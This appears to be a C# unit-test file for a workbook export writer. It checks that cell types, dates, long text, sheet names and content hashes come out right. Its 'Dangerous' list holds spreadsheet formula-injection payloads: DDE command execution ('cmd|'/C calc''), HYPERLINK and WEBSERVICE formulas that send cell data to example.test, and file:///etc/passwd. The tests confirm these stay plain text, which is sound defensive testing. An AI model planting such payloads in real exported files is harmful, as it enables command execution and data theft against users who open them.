using System.Text;
using GovernanceConsole.EvidenceExports;

namespace GovernanceConsole.Tests.EvidenceExports;

public sealed class WorkbookWriterTests
{
    private static readonly TimeZoneInfo Berlin = TimeZoneInfo.FindSystemTimeZoneById("Europe/Berlin");

    private static readonly ExportColumns<string?> OneText = new ExportColumns<string?>().Text("Text", t => t);

    /// <summary>What spreadsheets have executed, or might: the corpus of reliability row I2.</summary>
    private static readonly string[] Dangerous =
    [
        "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "=cmd|'/C calc'!A0", "+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0", "@cmd|'/C calc'!A0",
        "=DDE(\"cmd\";\"/C calc\";\"x\")", "=HYPERLINK(\"http://example.test/?\"&A1,\"open\")", "=WEBSERVICE(\"http://example.test/\"&A1)",
        "=IMPORTXML(\"http://example.test\",\"//a\")", "=INDIRECT(\"A1\")", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "\u0000=1+1", " =1+1", "  @SUM(1)",
        "'=1+1", "\"=1+1\"", "''", "＝1+1", "＋1", "－1", "＠SUM(1)", "\u200B=1+1", "\uFEFF=1+1", "\u202E=1+1", "http://example.test", "mailto:a@example.test",
        "\\\\host\\share", "file:///etc/passwd", "<f>1+1</f>", "</t></is></c><c><f>1+1</f></c>", "]]><f>1</f>", "&lt;f&gt;", "&#61;1+1", "<!--", "_x003D_1+1", "_x0041_",
        "_x005F_x003D_", "__x003D__", "_x003d_", "_xD83D_", "{=1+1}", "=1+1;", "1E5", "0012", "TRUE", "1-2", "3/4", "#REF!", "\u0001\u001F\u007F\u0085", "\uFFFE\uFFFF",
        "a\uD800b", "\uDC00", "😀 Ünïcødé 漢字", "a\tb", "a\nb", "a\rb", " ", "  two  spaces  ",
    ];

    [Fact]
    [Trait("row", "B-08")]
    public async Task Text_ThatLooksLikeAFormula_StaysTheTextItIs()
    {
        using var workbook = await WorkbookAsync(OneText, Dangerous);

        Assert.Equal(Dangerous, workbook.Rows("List").Skip(1).Select(r => r[0]!.Text));
        Assert.All(workbook.Rows("List").Skip(1), row => Assert.Equal((null, "49", true), (row[0]!.Number, row[0]!.Format, row[0]!.QuotePrefix)));
        Assert.Equal(0, workbook.Formulas);
        Assert.Equal(0, workbook.ExternalLinks);
        Assert.Empty(workbook.ValidationErrors);
    }

    [Fact]
    [Trait("row", "B-08")]
    public async Task Text_InEveryOtherPlace_IsNoFormulaEither()
    {
        foreach (var text in Dangerous)
        {
            using var workbook = await WorkbookAsync(new ExportColumns<string>().Text(text, t => t), [text], title: text, cover: _ => [new CoverLine(text, text)]);
            Assert.Equal(0, workbook.Formulas);
            Assert.Equal(0, workbook.ExternalLinks);
            Assert.Empty(workbook.ValidationErrors);
            Assert.Equal(text, workbook.Cover(text).Text);
            Assert.True(workbook.Cover(text).QuotePrefix);
        }
    }

    [Fact]
    [Trait("row", "B-07")]
    public async Task Cells_AreOfTheTypeOfTheirColumn()
    {
        var columns = new ExportColumns<int>()
            .Text("Text", _ => "REQ-7").Whole("Whole", _ => 1234567).Decimal("Decimal", _ => 0.125m).Percentage("Share", _ => 0.25m)
            .Date("Date", _ => new DateOnly(2026, 3, 2)).Instant("At", _ => new DateTimeOffset(2026, 7, 1, 22, 30, 15, 250, TimeSpan.Zero))
            .YesNo("Yes", _ => true).YesNo("No", _ => false).Choice<DayOfWeek>("Choice", _ => DayOfWeek.Friday);

        using var workbook = await WorkbookAsync(columns, [1]);

        Assert.Empty(workbook.ValidationErrors);
        var row = workbook.Rows("List")[1];
        Assert.Equal("REQ-7", row[0]!.Text);
        Assert.Equal((1234567d, "3"), (row[1]!.Number!.Value, row[1]!.Format));
        Assert.Equal((0.125, "#,##0.######"), (row[2]!.Number!.Value, row[2]!.Format));
        Assert.Equal((0.25, "0.0%"), (row[3]!.Number!.Value, row[3]!.Format));
        Assert.Equal((new DateTime(2026, 3, 2, 0, 0, 0, DateTimeKind.Unspecified), @"yyyy\-mm\-dd"), (row[4]!.Moment, row[4]!.Format));
        Assert.Equal((new DateTime(2026, 7, 2, 0, 30, 15, 250, DateTimeKind.Unspecified), @"yyyy\-mm\-dd\ hh:mm:ss"), (row[5]!.Moment, row[5]!.Format));
        Assert.Equal(["yes", "no", "Friday"], row.Skip(6).Select(c => c!.Text));
    }

    [Fact]
    public async Task Cell_WithoutValue_IsEmpty()
    {
        var columns = new ExportColumns<int>()
            .Text("Null", _ => null).Text("Empty", _ => "").Whole("Whole", _ => null).Decimal("Decimal", _ => null).Percentage("Share", _ => null)
            .Date("Date", _ => null).Instant("At", _ => null).YesNo("Yes", _ => null).Choice<DayOfWeek>("Choice", _ => null).Text("Last", _ => "here");

        using var workbook = await WorkbookAsync(columns, [1]);

        var row = workbook.Rows("List")[1];
        Assert.All(row.Take(9), Assert.Null);
        Assert.Equal("here", row[9]!.Text);
        Assert.Empty(workbook.ValidationErrors);
    }

    [Theory]
    [InlineData(999_999_999_999_999, true)]
    [InlineData(1_000_000_000_000_000, false)]
    [InlineData(-999_999_999_999_999, true)]
    [InlineData(-1_000_000_000_000_000, false)]
    public async Task Number_ThatASpreadsheetWouldRound_IsText(long number, bool isNumber)
    {
        using var workbook = await WorkbookAsync(new ExportColumns<long>().Whole("Number", n => n).Decimal("Decimal", n => n), [number]);

        Assert.All(workbook.Rows("List")[1], cell =>
        {
            Assert.Equal(isNumber ? (double)number : null, cell!.Number);
            Assert.Equal(isNumber ? null : number.ToString(System.Globalization.CultureInfo.InvariantCulture), cell.Text);
        });
    }

    [Fact]
    public async Task Date_BeforeMarch1900_IsText()
    {
        using var workbook = await WorkbookAsync(
            new ExportColumns<DateOnly>().Date("Date", d => d).Instant("At", d => new DateTimeOffset(d, TimeOnly.MinValue, TimeSpan.Zero)),
            [new DateOnly(1900, 2, 28), new DateOnly(1900, 3, 1), new DateOnly(1, 1, 1)], zone: TimeZoneInfo.Utc);

        var rows = workbook.Rows("List");
        Assert.Equal("1900-02-28", rows[1][0]!.Text);
        Assert.Equal("1900-02-28 00:00:00", rows[1][1]!.Text);
        Assert.Equal(new DateTime(1900, 3, 1, 0, 0, 0, DateTimeKind.Unspecified), rows[2][0]!.Moment);
        Assert.Equal(new DateTime(1900, 3, 1, 0, 0, 0, DateTimeKind.Unspecified), rows[2][1]!.Moment);
        Assert.Equal("0001-01-01", rows[3][0]!.Text);
    }

    [Fact]
    public async Task Text_LongerThanACell_IsCutAndSaysSo()
    {
        using var workbook = await WorkbookAsync(OneText, [new string('x', 32_767), new string('x', 32_768), new string('x', 32_690) + string.Concat(Enumerable.Repeat("😀", 100))]);

        var rows = workbook.Rows("List");
        Assert.Equal(new string('x', 32_767), rows[1][0]!.Text);
        Assert.Equal(32_767, rows[2][0]!.Text!.Length);
        Assert.EndsWith("x [cut here: the text has 32768 characters, a cell holds 32767]", rows[2][0]!.Text, StringComparison.Ordinal);
        Assert.All(rows[3][0]!.Text!.EnumerateRunes(), rune => Assert.NotEqual(Rune.ReplacementChar, rune));
        Assert.Empty(workbook.ValidationErrors);
    }

    [Fact]
    public async Task Sheet_HasTitlesThatStayInViewAndAFilter()
    {
        using var workbook = await WorkbookAsync(new ExportColumns<int>().Whole("One", i => i).Whole("Two", i => i * 2), [1, 2, 3]);

        Assert.Equal(["Cover", "List"], workbook.Sheets);
        Assert.Equal(["One", "Two"], workbook.Rows("List")[0].Select(c => c!.Text));
        Assert.True(workbook.FirstRowIsFrozen("List"));
        Assert.Equal("A1:B4", workbook.FilteredCells("List"));
    }

    [Fact]
    public async Task List_WithoutRows_IsASheetOfTitles()
    {
        using var workbook = await WorkbookAsync(OneText, []);

        Assert.Single(workbook.Rows("List"));
        Assert.Equal("A1:A1", workbook.FilteredCells("List"));
        Assert.Empty(workbook.ValidationErrors);
    }

    [Theory]
    [InlineData(9, 1)]
    [InlineData(10, 1)]
    [InlineData(11, 2)]
    [InlineData(20, 2)]
    [InlineData(21, 3)]
    public async Task List_LongerThanASheet_GoesOnInTheNext(int rows, int sheets)
    {
        WorkbookContent? content = null;
        using var workbook = await WorkbookAsync(
            new ExportColumns<int>().Whole("Number", i => i), [.. Enumerable.Range(1, rows)], rowsPerSheet: 10,
            cover: c =>
            {
                content = c;
                return [];
            });

        Assert.Equal(new[] { "Cover", "List", "List 2", "List 3" }.Take(sheets + 1), workbook.Sheets);
        Assert.Equal((rows, sheets), (content!.Rows, content.Sheets));
        Assert.Equal(
            Enumerable.Range(1, rows).Select(i => (double?)i),
            workbook.Sheets.Skip(1).SelectMany(s => workbook.Rows(s).Skip(1)).Select(r => r[0]!.Number));
        Assert.Equal(content.ContentHash, workbook.HashOfDataSheets());
        Assert.Empty(workbook.ValidationErrors);
    }

    [Fact]
    public void Sheet_HoldsWhatASpreadsheetHolds() => Assert.Equal(1_048_576 - 1, WorkbookWriter.MostRowsOfASheet);

    [Theory]
    [InlineData("Gaps: paths/areas [all]*?", "Gaps  paths areas  all")]
    [InlineData("'quoted'", "quoted")]
    [InlineData("", "list")]
    [InlineData("History", "History list")]
    [InlineData("cover", "cover 2")]
    [InlineData("A title that is much longer than a tab may be", "A title that is much longer tha")]
    public async Task SheetName_IsOneThatSpreadsheetsTake(string title, string name)
    {
        using var workbook = await WorkbookAsync(OneText, ["x"], title: title);
        Assert.Equal(["Cover", name], workbook.Sheets);
        Assert.Empty(workbook.ValidationErrors);
    }

    [Fact]
    [Trait("row", "X5")]
    public async Task Workbook_WrittenTwice_IsTheSameBytes()
    {
        var rows = Enumerable.Range(1, 5000).ToArray();
        var columns = new ExportColumns<int>().Whole("Number", i => i).Text("Text", i => $"row {i}");
        Assert.Equal(await BytesAsync(columns, rows), await BytesAsync(columns, rows));
    }

    [Fact]
    [Trait("row", "X5")]
    public async Task ContentHash_LeavesTheCoverOut_AndNothingElse()
    {
        var columns = new ExportColumns<string>().Text("Text", t => t);
        var hashes = new List<string>();
        async Task WriteAsync(string cell, string cover, ExportColumns<string> titled) =>
            _ = await BytesAsync(titled, [cell], cover: content =>
            {
                hashes.Add(content.ContentHash);
                return [new CoverLine("Exported by", cover)];
            });

        await WriteAsync("a", "Ada", columns);
        await WriteAsync("a", "Grace", columns);
        await WriteAsync("b", "Ada", columns);
        await WriteAsync("a", "Ada", new ExportColumns<string>().Text("Other", t => t));

        Assert.Equal(hashes[0], hashes[1]);
        Assert.Equal(3, hashes.Distinct().Count());
    }

    private static async Task<OpenedWorkbook> WorkbookAsync<T>(
        ExportColumns<T> columns, T[] rows, string title = "List", Func<WorkbookContent, IEnumerable<CoverLine>>? cover = null,
        int rowsPerSheet = WorkbookWriter.MostRowsOfASheet, TimeZoneInfo? zone = null) => new(await BytesAsync(columns, rows, title, cover, rowsPerSheet, zone));

    private static async Task<byte[]> BytesAsync<T>(
        ExportColumns<T> columns, T[] rows, string title = "List", Func<WorkbookContent, IEnumerable<CoverLine>>? cover = null,
        int rowsPerSheet = WorkbookWriter.MostRowsOfASheet, TimeZoneInfo? zone = null)
    {
        using var bytes = new MemoryStream();
        using var workbook = await WorkbookWriter.StartAsync(bytes, zone ?? Berlin, rowsPerSheet);
        await workbook.AddTableAsync(title, columns, rows.ToAsyncEnumerable(), CancellationToken.None);
        await workbook.FinishAsync(title, cover ?? (_ => []), CancellationToken.None);
        return bytes.ToArray();
    }
}
